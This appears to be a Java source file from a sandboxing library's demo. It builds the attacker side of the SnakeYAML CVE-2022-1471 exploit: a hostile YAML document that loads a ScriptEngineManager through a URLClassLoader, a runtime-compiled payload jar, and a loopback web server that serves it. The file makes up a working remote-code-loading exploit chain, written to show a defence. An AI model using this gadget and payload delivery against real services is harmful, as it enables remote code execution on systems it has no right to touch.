package io.github.seccomp4j.examples.documents;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Objects;
import java.util.jar.JarEntry;
import java.util.jar.JarOutputStream;
import javax.script.ScriptEngineFactory;
import javax.tools.JavaCompiler;
import javax.tools.ToolProvider;

/**
 * The other side of the demo: a document that makes the parser load a class, and the web server
 * that class comes from.
 *
 * <p>The document is the well-known proof of CVE-2022-1471: SnakeYAML builds a {@code
 * ScriptEngineManager} on a {@code URLClassLoader}, which looks for script engines in the jar that
 * the document names and creates what it finds. The class is compiled here, when the demo runs: the
 * document server's class path does not have it. All it does is to run {@code id} and keep its
 * output in a file. Everything stays on the loopback interface.
 */
final class Attacker implements AutoCloseable {
  private static final String CLASS = "attacker/HostileEngineFactory";
  private static final String JAR = "/engine.jar";

  private final HttpServer http;
  private final byte[] jar;
  private volatile boolean fetched;

  private Attacker(HttpServer http, byte[] jar) {
    this.http = http;
    this.jar = jar;
  }

  /**
   * Builds the payload and starts the web server.
   *
   * @param folder an existing folder for the compiler's files
   * @param marker the file that the payload's program writes
   */
  static Attacker start(Path folder, Path marker) throws IOException {
    InetSocketAddress anyPort = new InetSocketAddress(InetAddress.getLoopbackAddress(), 0);
    Attacker attacker = new Attacker(HttpServer.create(anyPort, 0), payload(folder, marker));
    attacker.http.createContext(JAR, attacker::serveJar);
    attacker.http.start();
    return attacker;
  }

  /** The hostile document. */
  String document() {
    return "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://"
        + http.getAddress().getAddress().getHostAddress()
        + ":"
        + http.getAddress().getPort()
        + JAR
        + "\"]]]]\n";
  }

  /** Whether somebody has come for the jar. */
  boolean jarWasFetched() {
    return fetched;
  }

  @Override
  public void close() {
    http.stop(0);
  }

  private void serveJar(HttpExchange exchange) throws IOException {
    try (exchange) {
      fetched = true;
      exchange.sendResponseHeaders(200, jar.length);
      exchange.getResponseBody().write(jar);
    }
  }

  private static byte[] payload(Path folder, Path marker) throws IOException {
    Path source = folder.resolve("HostileEngineFactory.java");
    try (InputStream in = Attacker.class.getResourceAsStream("HostileEngineFactory.java.txt")) {
      Files.copy(Objects.requireNonNull(in, "the payload's source is missing"), source);
    }
    JavaCompiler compiler = ToolProvider.getSystemJavaCompiler();
    if (compiler == null) {
      throw new IOException("the demo compiles its payload: run it with a JDK, not a JRE");
    }
    ByteArrayOutputStream messages = new ByteArrayOutputStream();
    int status =
        compiler.run(
            null,
            messages,
            messages,
            "--release",
            "17",
            "-proc:none",
            "-d",
            folder.toString(),
            source.toString());
    if (status != 0) {
      throw new IOException("the payload does not compile: " + messages);
    }
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (JarOutputStream out = new JarOutputStream(bytes)) {
      add(out, CLASS + ".class", Files.readAllBytes(folder.resolve(CLASS + ".class")));
      add(out, "META-INF/services/" + ScriptEngineFactory.class.getName(), CLASS.replace('/', '.'));
      add(out, "marker", marker.toString());
    }
    return bytes.toByteArray();
  }

  private static void add(JarOutputStream out, String name, String text) throws IOException {
    add(out, name, text.getBytes(StandardCharsets.UTF_8));
  }

  private static void add(JarOutputStream out, String name, byte[] content) throws IOException {
    out.putNextEntry(new JarEntry(name));
    out.write(content);
    out.closeEntry();
  }
}
